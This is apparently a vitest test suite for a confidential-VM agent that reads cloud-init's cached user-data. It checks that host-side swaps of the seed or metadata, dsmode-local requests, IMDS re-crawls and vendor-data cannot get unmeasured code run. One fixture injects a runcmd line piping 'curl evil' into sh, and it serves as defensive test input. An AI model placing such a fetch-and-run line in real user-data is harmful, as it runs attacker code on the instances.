// The enclaivelet's NoCloud/EC2/GCE user-data: the bytes cloud-init cached in its local stage and executes later,
// never a second read of the seed disk or the metadata service (a host or cloud operator could answer the second
// read differently). Checked against the real cloud-init 22.4: its local stage (datasource + stages.Init.instancify,
// which pickles obj.pkl) writes the cache, the agent reads it, and cloud-init's network stage (restore "trust" +
// update) writes the user-data.txt the user stages execute — the agent's bytes must be exactly those.
// NoCloud is the kit image's datasource (images/guest/configure.ts PINNED_NOCLOUD) with dsmode pinned to net: a host
// asking for dsmode local (seed meta-data, DMI serial, command line) gets no user-data run before the agent; and the
// image's cloud.cfg.d keeps cloud-init from consuming vendor-data at all.
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { execFile, spawnSync } from "node:child_process";
import { promisify } from "node:util";
import { existsSync } from "node:fs";
import { createHash } from "node:crypto";
import { mkdtemp, mkdir, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { measuredConfig, readUserData, UserDataReadError } from "../../../runtime/guest/userdata.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { configureNetwork, PINNED_EC2, PINNED_NOCLOUD } from "../../../images/guest/configure.js";
import { EXPECTED_DATASOURCE } from "../../../runtime/guest/cloud-init-cache.js";
import { startFakeGceMetadata } from "../../support/gce-metadata.js";
import {
  cloudInitPy,
  gceLocalStage,
  hasCloudInitStages,
  kitDatasource,
  localStage,
  localStageResult,
  networkStage,
  networkStageAsync,
} from "../../support/cloud-init-cache.js";

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");

const REGISTERED = renderUserData({
  platform: "qemu",
  tee: "snp",
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "web",
  agent: { kind: "image" },
}).text;
const INJECTED = `${REGISTERED}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;

describe.skipIf(!hasCloudInitStages)("the agent reads cloud-init's cached user-data (real cloud-init 22.4)", () => {
  let dir: string;
  let dirs: { cloud: string; run: string; modules: string };
  let python: string;
  let seed: string;
  const deps = () => ({
    cloudInit: {
      objPkl: path.join(dirs.cloud, "instance", "obj.pkl"),
      runInstanceId: path.join(dirs.run, ".instance-id"),
      python,
    },
  });
  const userDataTxt = () => readFile(path.join(dirs.cloud, "instance", "user-data.txt"));
  const seedWith = async (userData: string, iid = "iid-web-1", moreMetaData = "") => {
    await writeFile(path.join(seed, "meta-data"), `instance-id: ${iid}\n${moreMetaData}`);
    await writeFile(path.join(seed, "user-data"), userData);
  };

  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "bk-ci-cache-"));
    const kit = kitDatasource(dir);
    python = kit.python;
    dirs = { cloud: path.join(dir, "var-lib-cloud"), run: path.join(dir, "run-cloud-init"), modules: kit.modules };
    seed = path.join(dir, "seed");
    await mkdir(seed);
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  it("NoCloud: the agent's bytes are the user-data.txt cloud-init's user stages execute", async () => {
    await seedWith(REGISTERED);
    expect(localStage(dirs, { kind: "nocloud", seed })).toBe("iid-web-1");
    const bytes = await readUserData("nocloud", deps());
    expect(bytes.toString("utf8")).toBe(REGISTERED);
    expect(measuredConfig(bytes).sha256).toBe(sha256(REGISTERED));
    networkStage(dirs);
    expect((await userDataTxt()).equals(bytes)).toBe(true);
    // a local-dsmode datasource would have written user-data.txt already: the same bytes are accepted
    expect((await readUserData("nocloud", deps())).equals(bytes)).toBe(true);
  });

  it("a host that rewrites the seed after cloud-init read it: the agent binds what cloud-init cached and runs", async () => {
    // cloud-init-local read the injected user-data; the host then puts the registered one back on the seed for a
    // second read. An agent re-reading the seed would bind the registered hash while cloud-init runs the injection.
    await seedWith(INJECTED);
    localStage(dirs, { kind: "nocloud", seed });
    await seedWith(REGISTERED);
    const bytes = await readUserData("nocloud", deps());
    expect(sha256(bytes)).toBe(sha256(INJECTED));
    expect(sha256(bytes)).not.toBe(sha256(await readFile(path.join(seed, "user-data"))));
    networkStage(dirs);
    expect(sha256(await userDataTxt())).toBe(sha256(bytes)); // what runs is what is bound (and Nitride refuses it)
  });

  it.each(["ec2", "gce"] as const)("%s: the agent reads the local datasource's cached user-data", async (kind) => {
    expect(localStage(dirs, { kind, iid: "i-0abc", userData: REGISTERED })).toBe("i-0abc");
    const bytes = await readUserData(kind, deps());
    expect(bytes.toString("utf8")).toBe(REGISTERED);
    networkStage(dirs);
    expect((await userDataTxt()).equals(bytes)).toBe(true);
  });

  it("refuses without the cache (cloud-init-local did not cache a datasource): nothing to provision", async () => {
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/\.instance-id: ENOENT/);
    await mkdir(dirs.run, { recursive: true });
    await writeFile(path.join(dirs.run, ".instance-id"), "iid-web-1\n");
    const e = await readUserData("nocloud", deps()).catch((x: unknown) => x);
    expect(e).toBeInstanceOf(UserDataReadError);
    expect((e as Error).message).toMatch(/obj\.pkl: missing/);
  });

  it("refuses a cache of another instance than this boot's", async () => {
    await seedWith(REGISTERED, "iid-old");
    localStage(dirs, { kind: "nocloud", seed });
    await writeFile(path.join(dirs.run, ".instance-id"), "iid-web-2\n");
    await expect(readUserData("nocloud", deps())).rejects.toThrow(
      /instance-id "iid-old" is not this boot's "iid-web-2"/,
    );
  });

  it("refuses a cache of another datasource than the image's source", async () => {
    await seedWith(REGISTERED);
    localStage(dirs, { kind: "nocloud", seed });
    await expect(readUserData("ec2", deps())).rejects.toThrow(
      /datasource cloudinit\.sources\.DataSourceBuckypaperNoCloud\.DataSourceBuckypaperNoCloud, expected cloudinit\.sources\.DataSourceBuckypaperEc2\.DataSourceBuckypaperEc2Local/,
    );
    // cloud-init's stock NoCloud is not the image's datasource either
    await rm(dirs.cloud, { recursive: true });
    await rm(dirs.run, { recursive: true });
    localStage(dirs, { kind: "nocloud", seed, stock: true });
    await expect(readUserData("nocloud", deps())).rejects.toThrow(
      /datasource cloudinit\.sources\.DataSourceNoCloud\.DataSourceNoCloud, expected cloudinit\.sources\.DataSourceBuckypaperNoCloud\.DataSourceBuckypaperNoCloud/,
    );
    await rm(dirs.cloud, { recursive: true });
    await rm(dirs.run, { recursive: true });
    localStage(dirs, { kind: "gce", iid: "iid-web-1", userData: REGISTERED });
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/DataSourceGCELocal, expected/);
    await expect(readUserData("ec2", deps())).rejects.toThrow(/DataSourceGCELocal, expected/);
  });

  it("refuses a cache cloud-init cannot load, and a user-data.txt that differs from the cache", async () => {
    await seedWith(REGISTERED);
    localStage(dirs, { kind: "nocloud", seed });
    const pkl = path.join(dirs.cloud, "instance", "obj.pkl");
    const good = await readFile(pkl);
    await writeFile(path.join(dirs.cloud, "instance", "user-data.txt"), INJECTED);
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/user-data\.txt differs from the user-data in/);
    await rm(path.join(dirs.cloud, "instance", "user-data.txt"));
    await writeFile(pkl, good.subarray(0, good.length - 7));
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/obj\.pkl: cloud-init cannot load it/);
  });

  // The host's ways of asking for dsmode local: the seed's meta-data, the DMI serial (which outranks the command
  // line), and — measured, so not the host's, but the same code path — the kernel command line.
  const LOCAL_ASKS: [string, { meta?: string; dmiSerial?: string; cmdline?: string }][] = [
    ["the seed's meta-data", { meta: "dsmode: local\n" }],
    ["the DMI serial", { dmiSerial: "ds=nocloud;dsmode=local" }],
    ["the DMI serial over a command line asking for net", { dmiSerial: "ds=nocloud", cmdline: "ro ds=nocloud-net" }],
    ["the kernel command line", { cmdline: "root=/dev/vda ds=nocloud;dsmode=local" }],
  ];

  it.each(LOCAL_ASKS)(
    "dsmode local from %s: stock NoCloud goes local (user-data before the agent), the kit's stays net",
    async (_what, ask) => {
      await seedWith(REGISTERED, "iid-web-1", ask.meta ?? "");
      const host = { dmiSerial: ask.dmiSerial, cmdline: ask.cmdline };
      // The hole: cloud-init-local's main_init runs boothooks and the init modules when dsmode is local.
      const stock = localStageResult(dirs, { kind: "nocloud", seed, stock: true, ...host });
      expect(stock).toMatchObject({ dsmode: "local", cls: "cloudinit.sources.DataSourceNoCloud.DataSourceNoCloud" });
      await rm(dirs.cloud, { recursive: true });
      await rm(dirs.run, { recursive: true });
      const kit = localStageResult(dirs, { kind: "nocloud", seed, ...host });
      expect(kit).toEqual({
        iid: "iid-web-1",
        dsmode: "net",
        cls: `${PINNED_NOCLOUD.module}.${PINNED_NOCLOUD.cls}`,
      });
      // and the agent binds it as usual
      const bytes = await readUserData("nocloud", deps());
      expect(bytes.toString("utf8")).toBe(REGISTERED);
      networkStage(dirs);
      expect((await userDataTxt()).equals(bytes)).toBe(true);
    },
  );

  it("the kit's NoCloud names the class the agent expects; a cache of it in local dsmode is refused", async () => {
    expect(EXPECTED_DATASOURCE.nocloud).toEqual({ module: PINNED_NOCLOUD.module, cls: PINNED_NOCLOUD.cls });
    await seedWith(REGISTERED);
    // an image whose pin did not hold: the user-data already ran, and the agent says so instead of attesting
    localStage(dirs, { kind: "nocloud", seed, forceDsmode: "local" });
    await expect(readUserData("nocloud", deps())).rejects.toThrow(/obj\.pkl: dsmode "local", expected "net"/);
  });

  it("EC2: stock Ec2Local re-crawls IMDS (user-data included) for network config when the meta-data has no network key; the kit's Ec2Local never does", () => {
    // What cloud-init's apply_network_config asks of the datasource in every stage, the network stage after the agent
    // included: a crawl there would bring user-data the agent never measured (an IMDS leaving out network/ can
    // force it). get_data is counted instead of reaching IMDS.
    const code = `
import json, logging
logging.disable(logging.CRITICAL)
from cloudinit import sources
from cloudinit.sources import DataSourceEc2 as ec2
kit = sources.list_sources(["${PINNED_EC2.name}"], [sources.DEP_FILESYSTEM], ["", "cloudinit.sources"])
assert len(kit) == 1 and kit[0].__name__ == "${PINNED_EC2.cls}", kit
out = {}
for name, C in (("stock", ec2.DataSourceEc2Local), ("kit", kit[0])):
    ds = C.__new__(C)
    ds._cloud_name = ec2.CloudNames.AWS
    ds._fallback_interface = "eth0"
    ds.metadata = {"instance-id": "i-0abc"}
    crawls = []
    ds.get_data = lambda crawls=crawls: crawls.append(1) or True
    cfg = ds.network_config
    out[name] = {"crawls": len(crawls), "config": cfg}
print(json.dumps(out))
`;
    const r = spawnSync(python, ["-I", "-c", code], { encoding: "utf8" });
    expect(r.status, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual({ stock: { crawls: 1, config: null }, kit: { crawls: 0, config: null } });
  });

  it("GCE: GCELocal crawls the metadata server once; cloud-init's network stage under the image's config reads nothing again, so a swap after the local stage changes nothing that runs", async () => {
    // The real GCELocal crawl over HTTP against a metadata server with GCE's rules, then cloud-init.service's
    // restore, network config and update (user-data.txt) with the image's cloud.cfg.d (network config disabled).
    const root = path.join(dir, "image-root");
    await configureNetwork(root, "gce");
    const imageCfg = path.join(root, "etc/cloud/cloud.cfg.d/90-buckypaper.cfg");
    expect(await readFile(imageCfg, "utf8")).toMatch(/datasource_list: \[ GCE, None \]/);
    const md = await startFakeGceMetadata({
      instance: { id: "7316733851148520001", zone: "projects/1/zones/us-central1-a", hostname: "web.c.p.internal" },
      project: { "project-id": "bk-prod" },
      userData: REGISTERED,
    });
    const url = `http://127.0.0.1:${md.port}/computeMetadata/v1/`;
    const reads = () => md.requests.filter((r) => r.userData).length;
    try {
      expect(await gceLocalStage(dirs, url)).toEqual({
        iid: "7316733851148520001",
        dsmode: "net",
        cls: `${EXPECTED_DATASOURCE.gce.module}.${EXPECTED_DATASOURCE.gce.cls}`,
      });
      expect(reads()).toBe(1);
      const bytes = await readUserData("gce", deps());
      expect(bytes.toString("utf8")).toBe(REGISTERED);
      md.setUserData(INJECTED); // the host, once cloud-init-local has read it
      await networkStageAsync(dirs, { applyNetwork: true, cfgFiles: [imageCfg] });
      expect(reads()).toBe(1);
      expect((await userDataTxt()).equals(bytes)).toBe(true);

      // What would read it again: the restored datasource refreshed for a BOOT update event (stock GCE supports
      // BOOT and HOTPLUG). cloud-init asks for it only in apply_network_config past its "network config disabled"
      // return (and in the hotplug hook, installed only when config enables hotplug updates): the image's
      // cloud.cfg.d disables network config and enables no update event, so nothing gets there.
      const code = `
import json, sys, logging
logging.disable(logging.CRITICAL)
from cloudinit import dmi, sources
from cloudinit.event import EventType
dmi.read_dmi_data = lambda key: "Google Compute Engine" if key == "system-product-name" else None
ds = sources.pkl_load(sys.argv[1])
print(json.dumps({"updated": ds.update_metadata_if_supported([EventType.BOOT]), "ud": ds.get_userdata_raw().decode()}))
`;
      const r = await promisify(execFile)(
        cloudInitPy!,
        ["-I", "-c", code, path.join(dirs.cloud, "instance", "obj.pkl")],
        { encoding: "utf8" },
      );
      expect(JSON.parse(r.stdout)).toEqual({ updated: true, ud: INJECTED });
      expect(reads()).toBe(2);
    } finally {
      await md.close();
    }
  });

  it("vendor-data: consumed under cloud-init's defaults, never under the image's cloud.cfg.d", async () => {
    // The image's cloud.cfg.d, as configure.ts writes it for NoCloud.
    const root = path.join(dir, "image-root");
    await configureNetwork(root, "nocloud");
    const imageCfg = path.join(root, "etc/cloud/cloud.cfg.d/90-buckypaper.cfg");
    await seedWith(REGISTERED);
    await writeFile(
      path.join(seed, "vendor-data"),
      'Content-Type: multipart/mixed; boundary="B"\nMIME-Version: 1.0\n\n--B\nContent-Type: text/x-shellscript\n\n' +
        "#!/bin/sh\necho VENDOR-DATA-RAN > /dev/console\n--B\nContent-Type: text/cloud-config\n\n" +
        "#cloud-config\nbootcmd:\n  - [sh, -c, 'echo VENDOR-BOOTCMD > /dev/console']\n--B--\n",
    );
    const vendorScripts = path.join(dirs.cloud, "instance", "scripts", "vendor");
    const vendorCfg = path.join(dirs.cloud, "instance", "vendor-cloud-config.txt");
    // cloud-init's built-in config (vendor_data enabled): the script is saved for scripts-vendor, the
    // cloud-config merged into the modules' config — code and config no registration saw.
    localStage(dirs, { kind: "nocloud", seed });
    networkStage(dirs, { consume: true, cfgFiles: [] });
    expect(existsSync(vendorScripts) && (await readFile(path.join(vendorScripts, "part-001"), "utf8"))).toMatch(
      /VENDOR-DATA-RAN/,
    );
    expect(await readFile(vendorCfg, "utf8")).toMatch(/VENDOR-BOOTCMD/);
    // The image's config: neither, while the user-data is consumed as before.
    await rm(dirs.cloud, { recursive: true });
    await rm(dirs.run, { recursive: true });
    localStage(dirs, { kind: "nocloud", seed });
    networkStage(dirs, { consume: true, cfgFiles: [imageCfg] });
    expect(existsSync(path.join(dirs.cloud, "instance", "cloud-config.txt"))).toBe(true);
    expect(existsSync(vendorScripts) && (await readdir(vendorScripts)).length > 0).toBe(false);
    expect(existsSync(vendorCfg)).toBe(false);
  });
});
